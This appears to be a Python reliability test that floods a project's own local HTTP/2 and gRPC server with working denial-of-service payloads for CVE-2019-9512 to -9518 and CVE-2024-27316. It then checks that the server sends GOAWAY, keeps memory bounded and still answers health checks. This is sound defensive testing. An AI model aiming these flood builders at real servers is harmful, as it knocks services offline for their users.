"""HTTP/2 floods and the other denial-of-service classes of the 2019 HTTP/2 advisories (CVE-2019-9512 to -9518)
and the CONTINUATION flood (CVE-2024-27316), on the main port of the example (gRPC shares it).

Every attack connection comes from ``probes.ATTACKER`` and sends at the full rate of one connection: a thread with
a blocking socket, so the attacker's own Python does not slow the probe loop beside it, which times ``GET /health``
from ``probes.LEGIT``. The figures: the server's GOAWAY code and how soon it came, ``/health`` during the attack,
the server's resident memory, and legitimate HTTP/1.1 and gRPC requests served after.
"""

from __future__ import annotations

import asyncio
import itertools
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import httpx
from hpack import Encoder

from examples.documents_api.proto.documents.v1 import documents_pb2
from reliability import probes, servers
from reliability.figures import Figure, at_most, equals, is_true
from reliability.run import Context

MB = 1024 * 1024
ENHANCE_YOUR_CALM = 0xB
GOAWAY_WITHIN_SECS = 1.0
"""A flood of control or empty frames gets GOAWAY ENHANCE_YOUR_CALM within this, as does any frame flood whose
answers the attacker reads (issue 27)."""
UNREAD_ENDED_WITHIN_SECS = 8.0
"""A flood whose answers the attacker leaves unread: the server stops taking its bytes (it cuts the connection off,
or stops reading it) within this. A GOAWAY queued behind unread answers cannot arrive: the server gives it two
lingers (4 s) before it aborts the connection, so this is its decision plus those 4 s, plus slack."""
HEALTH_P99_SECS = 0.1
"""``/health`` p99 while a flood runs (issue 27). The quick run, inside ``make test`` on a machine that may be
busy with other work, holds it to ``QUICK_HEALTH_P99_SECS``: enough to show that no flood stalls the loop (without
the limits the p99 was seconds)."""
QUICK_HEALTH_P99_SECS = 1.0
RSS_GROWTH_BYTES = 50 * MB
STALL_SECS = 0.2
"""An attacker's send that makes no progress for this long means the server stopped reading the connection."""
DRAIN_SECS = 5.0
"""How long an attacker that did not read reads afterwards, to find the server's GOAWAY behind its answers."""
ROUNDS_MAX = 200
HANDSHAKE_SECS = 5.0
PROBE_INTERVAL_SECS = 0.01
MAX_STREAM_ID = 2**31 - 1
MAX_WINDOW = 2**31 - 1
DEFAULT_WINDOW = 65_535


@dataclass(frozen=True, slots=True, kw_only=True)
class Flood:
    """What one attack connection sends after the handshake: its SETTINGS entries, ``opening`` once, then the
    blocks of frames of ``units()`` back to back. ``reads``: it reads the server's frames meanwhile (else only
    once it has stopped sending)."""

    units: Callable[[], Iterator[bytes]]
    opening: bytes = b""
    settings: bytes = b""
    reads: bool = True


@dataclass(slots=True)
class Round:
    """One attack connection. ``code``: the server's GOAWAY code (``probes.NO_GOAWAY``: closed without one;
    None: neither). ``after``: seconds from the flood's first byte to the GOAWAY or the close (for a flood that
    does not read: until the server stopped taking its bytes); None: not within the limit."""

    code: int | None = None
    after: float | None = None
    sent: int = 0


def flood(port: int, shape: Flood, limit: float) -> Round:
    """Blocking (run it in a thread): one attack connection from ``probes.ATTACKER`` sending ``shape`` for at most
    ``limit`` seconds, or until the server sends GOAWAY, closes, or stops reading."""
    result = Round()
    with probes.connect_from(probes.ATTACKER, port) as sock:
        _handshake(sock, shape.settings)
        sock.settimeout(STALL_SECS)
        started = time.perf_counter()
        deadline = started + limit
        ended = threading.Event()
        if shape.reads:
            watcher = threading.Thread(target=_watch, args=(sock, started, deadline, result, ended), daemon=True)
            watcher.start()
        stopped = None
        try:
            sock.sendall(shape.opening)
            for unit in shape.units():
                if ended.is_set() or time.perf_counter() >= deadline:
                    break
                sock.sendall(unit)
                result.sent += len(unit)
        except OSError:  # closed, or a send stalled for STALL_SECS (TimeoutError): the server stopped reading
            stopped = time.perf_counter() - started
        if not shape.reads:
            drain = time.perf_counter() + DRAIN_SECS
            watcher = threading.Thread(target=_watch, args=(sock, started, drain, result, ended), daemon=True)
            watcher.start()
        watcher.join()  # returns by its deadline
        if not shape.reads:
            result.after = stopped
    return result


def _handshake(sock: socket.socket, settings: bytes) -> None:
    """Preface and SETTINGS, then the server's SETTINGS acknowledged (its other frames are dropped)."""
    sock.sendall(probes.PREFACE + probes.frame(probes.SETTINGS, 0, 0, settings))
    buffer = bytearray()
    deadline = time.monotonic() + HANDSHAKE_SECS
    while time.monotonic() < deadline:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError("the server closed the connection during the HTTP/2 handshake")
        buffer += chunk
        for kind, flags, _stream, _payload in probes.take_frames(buffer):
            if kind == probes.SETTINGS and not flags & probes.ACK:
                sock.sendall(probes.frame(probes.SETTINGS, probes.ACK, 0))
                return
    raise TimeoutError(f"no SETTINGS frame from the server within {HANDSHAKE_SECS:g} s")


def _watch(sock: socket.socket, started: float, deadline: float, result: Round, ended: threading.Event) -> None:
    """Read the server's frames until its GOAWAY, the close, or ``deadline``; record which and when."""
    buffer = bytearray()
    try:
        while time.perf_counter() < deadline:
            try:
                chunk = sock.recv(262_144)
            except TimeoutError:
                continue
            if not chunk:
                result.code, result.after = probes.NO_GOAWAY, time.perf_counter() - started
                return
            buffer += chunk
            for kind, _flags, _stream, payload in probes.take_frames(buffer):
                if kind == probes.GOAWAY:
                    result.code = int.from_bytes(payload[4:8], "big")
                    result.after = time.perf_counter() - started
                    return
    except OSError:  # a reset: closed without a GOAWAY the client could read
        result.code, result.after = probes.NO_GOAWAY, time.perf_counter() - started
    finally:
        ended.set()


def _repeat(block: bytes, times: int) -> Callable[[], Iterator[bytes]]:
    unit = block * times
    return lambda: itertools.repeat(unit)


def _streams(block: Callable[[Encoder, int], bytes], per_unit: int) -> Callable[[], Iterator[bytes]]:
    """Units of ``per_unit`` new streams each (odd ids from 1), ``block(encoder, stream)`` per stream; one HPACK
    encoder per connection, as the server's decoder expects."""

    def units() -> Iterator[bytes]:
        encoder = Encoder()
        for start in range(1, MAX_STREAM_ID - 2 * per_unit, 2 * per_unit):
            yield b"".join(block(encoder, stream) for stream in range(start, start + 2 * per_unit, 2))

    return units


def ping_flood() -> Flood:
    """CVE-2019-9512: PINGs, each asking for an answer."""
    return Flood(units=_repeat(probes.frame(probes.PING, 0, 0, b"\x00" * 8), 4096))


def settings_flood() -> Flood:
    """CVE-2019-9515: SETTINGS frames (one entry each, so not empty), each asking for an acknowledgement."""
    entry = struct.pack(">HI", probes.SETTINGS_ENABLE_PUSH, 0)
    return Flood(units=_repeat(probes.frame(probes.SETTINGS, 0, 0, entry), 4096))


def empty_data_flood(port: int, token: str) -> Flood:
    """CVE-2019-9518: a valid call opened, then DATA frames without payload on it."""
    opening = probes.frame(probes.HEADERS, probes.END_HEADERS, 1, probes.grpc_request_headers(port, token))
    return Flood(opening=opening, units=_repeat(probes.frame(probes.DATA, 0, 1), 8192))


def priority_flood() -> Flood:
    """CVE-2019-9513: PRIORITY frames that turn a chain of 2000 idle streams around again and again, so that a
    server keeping a priority tree re-sorts it for every frame."""

    def priority(stream: int, parent: int) -> bytes:
        return probes.frame(probes.PRIORITY, 0, stream, struct.pack(">IB", 0x8000_0000 | parent, 15))

    up = b"".join(priority(stream, stream - 2) for stream in range(3, 4003, 2))
    down = b"".join(priority(stream, stream + 2) for stream in range(3, 4003, 2))
    return Flood(units=lambda: itertools.cycle((up, down)))


def reset_flood(port: int) -> Flood:
    """CVE-2019-9514: calls with a content type gRPC refuses (the server answers 415 and resets each stream),
    on new streams without end; the attacker never reads the answers."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/documents.v1.DocumentService/ListDocuments"),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "text/plain"),
    ]

    def block(encoder: Encoder, stream: int) -> bytes:
        return probes.frame(probes.HEADERS, probes.END_HEADERS, stream, encoder.encode(fields))

    return Flood(units=_streams(block, 256), reads=False)


def empty_header_names() -> Flood:
    """CVE-2019-9516: requests whose 1000 header fields have an empty name and value (3 bytes each on the wire)."""
    empty_fields = b"\x00\x00\x00" * 1000  # literal field without indexing, new name of length 0, value of length 0

    def block(encoder: Encoder, stream: int) -> bytes:
        return probes.frame(probes.HEADERS, probes.END_HEADERS | probes.END_STREAM, stream, empty_fields)

    return Flood(units=_streams(block, 16))


def empty_header_frames() -> Flood:
    """CVE-2019-9516 and -9518 in frames: a HEADERS frame without payload and without END_HEADERS, then
    CONTINUATION frames without payload, forever."""
    opening = probes.frame(probes.HEADERS, 0, 1)
    return Flood(opening=opening, units=_repeat(probes.frame(probes.CONTINUATION, 0, 1), 8192))


def continuation_flood(port: int, token: str) -> Flood:
    """CVE-2024-27316: a request's HEADERS without END_HEADERS, then endless full CONTINUATION frames of more
    (valid) header fields."""
    opening = probes.frame(probes.HEADERS, 0, 1, probes.grpc_request_headers(port, token))
    fields = b"\x00\x01a\x01b" * 3276  # 3276 literal fields "a: b" without indexing: 16380 bytes
    return Flood(opening=opening, units=_repeat(probes.frame(probes.CONTINUATION, 0, 1, fields), 4))


def response_buffering(port: int, token: str) -> Flood:
    """CVE-2019-9517: every flow-control window opened to the maximum, then calls for a large answer
    (ListDocuments of about 100 KB) as fast as the socket takes them; the attacker never reads."""
    message = documents_pb2.ListDocumentsRequest(limit=100).SerializeToString()
    body = b"\x00" + len(message).to_bytes(4, "big") + message
    fields = probes.grpc_request_fields(port, token)

    def block(encoder: Encoder, stream: int) -> bytes:
        return probes.frame(probes.HEADERS, probes.END_HEADERS, stream, encoder.encode(fields)) + probes.frame(
            probes.DATA, probes.END_STREAM, stream, body
        )

    window = struct.pack(">I", MAX_WINDOW - DEFAULT_WINDOW)
    return Flood(
        settings=struct.pack(">HI", probes.SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW),
        opening=probes.frame(probes.WINDOW_UPDATE, 0, 0, window),
        units=_streams(block, 16),
        reads=False,
    )


async def _flooding(port: int, shape: Flood, window: float) -> tuple[list[Round], probes.Served]:
    """Attack connections one after the other for ``window`` seconds (each until the server ends it) while
    ``/health`` is timed from ``probes.LEGIT``."""
    stop = asyncio.Event()
    served = probes.Served()
    prober = asyncio.create_task(probes.keep_probing(probes.health_probe(port), served, stop, PROBE_INTERVAL_SECS))
    rounds: list[Round] = []
    deadline = time.monotonic() + window
    try:
        while len(rounds) < ROUNDS_MAX and (remaining := deadline - time.monotonic()) > 0:
            rounds.append(await asyncio.to_thread(flood, port, shape, max(remaining, 2 * GOAWAY_WITHIN_SECS)))
    finally:
        stop.set()
        await prober
    return rounds, served


def _flood_figures(
    scenario: str, case: str, rounds: list[Round], served: probes.Served, p99_bound: float
) -> list[Figure]:
    wrong = [r.code for r in rounds if r.code != ENHANCE_YOUR_CALM]
    code = wrong[0] if wrong or not rounds else ENHANCE_YOUR_CALM
    afters = [r.after for r in rounds if r.after is not None]
    slowest = max(afters) if rounds and len(afters) == len(rounds) else None
    p99 = served.percentile(99)
    sent = sum(r.sent for r in rounds) / MB
    return [
        equals(
            scenario,
            f"{case}: GOAWAY code",
            code,
            ENHANCE_YOUR_CALM,
            note=f"{len(rounds)} connection(s), {sent:.0f} MB sent; {probes.goaway_note(code, ENHANCE_YOUR_CALM)}",
        ),
        at_most(scenario, f"{case}: GOAWAY after (slowest)", slowest, GOAWAY_WITHIN_SECS, unit=" s"),
        at_most(
            scenario,
            f"{case}: /health p99 during",
            None if p99 is None else p99 * 1000,
            p99_bound * 1000,
            unit=" ms",
        ),
        equals(scenario, f"{case}: /health failed during", served.sent - served.ok, 0, note=f"of {served.sent}"),
    ]


def http2_floods(ctx: Context) -> list[Figure]:
    """PING, SETTINGS and empty-DATA floods, each from one connection at a time at its full rate, for a while:
    GOAWAY ENHANCE_YOUR_CALM within a second every time, ``/health`` answered meanwhile (p99 <= 100 ms)."""
    name = "HTTP/2 floods"
    window = 1.5 if ctx.quick else 5.0
    figures: list[Figure] = []
    with servers.bastion(ctx.ws) as app:
        floods = {
            "PING flood": ping_flood(),
            "SETTINGS flood": settings_flood(),
            "empty DATA flood": empty_data_flood(app.port, app.user_token),
        }
        for case, shape in floods.items():
            rounds, served = asyncio.run(_flooding(app.port, shape, window))
            p99_bound = QUICK_HEALTH_P99_SECS if ctx.quick else HEALTH_P99_SECS
            figures += _flood_figures(name, case, rounds, served, p99_bound)
        figures += _served_after(name, app)
    return figures + servers.ServerLog.read(app.server.log_path).figures(name)


def _served_after(scenario: str, app: servers.Bastion) -> list[Figure]:
    http_ok = servers.served(f"{app.url}/api/v1/documents", app.auth(), timeout=5.0)
    grpc_ok = asyncio.run(probes.once(probes.grpc_probe(app.port, app.user_token)))
    return [
        is_true(scenario, "HTTP/1.1 served after", http_ok is not None),
        is_true(scenario, "gRPC served after", grpc_ok),
    ]


@dataclass(frozen=True, slots=True, kw_only=True)
class DosCase:
    """One attack of ``http2-dos``; ``stall_ends``: a server that stops reading the connection has answered it
    (CVE-2019-9517's "closed or stalled without growth")."""

    shape: Flood
    stall_ends: bool = False


def _dos_cases(port: int, token: str) -> dict[str, DosCase]:
    return {
        "PRIORITY flood (CVE-2019-9513)": DosCase(shape=priority_flood()),
        "reset flood, unread (CVE-2019-9514)": DosCase(shape=reset_flood(port)),
        "zero-length header names (CVE-2019-9516)": DosCase(shape=empty_header_names()),
        "empty HEADERS + CONTINUATION frames (CVE-2019-9516)": DosCase(shape=empty_header_frames()),
        "large answers, unread (CVE-2019-9517)": DosCase(shape=response_buffering(port, token), stall_ends=True),
        "CONTINUATION flood (CVE-2024-27316)": DosCase(shape=continuation_flood(port, token)),
    }


async def _dos_case(pid: int, port: int, case: DosCase) -> tuple[Round, int | None]:
    """One attack connection (its limit: the bound plus 2 s) and the server's resident memory growth meanwhile."""
    within = GOAWAY_WITHIN_SECS if case.shape.reads else UNREAD_ENDED_WITHIN_SECS
    before = probes.rss_bytes(pid)
    stop = asyncio.Event()
    sampler = asyncio.create_task(probes.peak_rss(pid, stop))
    try:
        result = await asyncio.to_thread(flood, port, case.shape, within + 2.0)
    finally:
        stop.set()
        peak = await sampler
    return result, None if before is None or peak is None else peak - before


def http2_dos(ctx: Context) -> list[Figure]:
    """The other HTTP/2 denial-of-service classes, one attack connection each: ended by GOAWAY or close within
    a bound, resident memory bounded, ``/health`` answered meanwhile and HTTP/1.1 and gRPC served after."""
    name = "HTTP/2 DoS classes"
    figures: list[Figure] = []
    with servers.bastion(ctx.ws) as app:
        _enlarge_documents(app)
        cases = _dos_cases(app.port, app.user_token)
        served = probes.Served()

        async def attacks() -> list[tuple[Round, int | None]]:
            stop = asyncio.Event()
            probing = asyncio.create_task(probes.keep_probing(probes.health_probe(app.port), served, stop, 0.05))
            try:
                return [await _dos_case(app.pid, app.port, case) for case in cases.values()]
            finally:
                stop.set()
                await probing

        results = asyncio.run(attacks())
        for (case_name, case), (result, growth) in zip(cases.items(), results, strict=True):
            figures += _dos_figures(name, case_name, case, result, growth)
        figures.append(
            equals(name, "/health failed during the attacks", served.sent - served.ok, 0, note=f"{served.sent} sent")
        )
        figures += _served_after(name, app)
    return figures + servers.ServerLog.read(app.server.log_path).figures(name)


def _dos_figures(scenario: str, case_name: str, case: DosCase, result: Round, growth: int | None) -> list[Figure]:
    within = GOAWAY_WITHIN_SECS if case.shape.reads else UNREAD_ENDED_WITHIN_SECS
    if result.code is None:
        ended = "stopped reading, no GOAWAY" if result.after is not None else "still taking bytes"
    else:
        ended = probes.H2_ERRORS.get(result.code, "closed without GOAWAY" if result.code < 0 else hex(result.code))
    after = result.after if result.code is not None or case.stall_ends else None
    return [
        at_most(
            scenario,
            f"{case_name}: ended after",
            after,
            within,
            unit=" s",
            note=f"{ended}; {result.sent / MB:.1f} MB sent",
        ),
        at_most(
            scenario,
            f"{case_name}: resident memory growth",
            None if growth is None else growth / MB,
            RSS_GROWTH_BYTES / MB,
            unit=" MB",
        ),
    ]


LARGE_CONTENT_CHARS = 50_000


def _enlarge_documents(app: servers.Bastion) -> None:
    """alice's two documents get 50,000 characters each: ListDocuments then answers about 100 KB."""
    for doc in ("doc-1", "doc-2"):
        body = {"title": doc, "content": "x" * LARGE_CONTENT_CHARS}
        response = httpx.put(f"{app.url}/api/v1/documents/alice/{doc}", json=body, headers=app.auth(), timeout=5.0)
        response.raise_for_status()


SCENARIOS = {"http2-floods": http2_floods, "http2-dos": http2_dos}
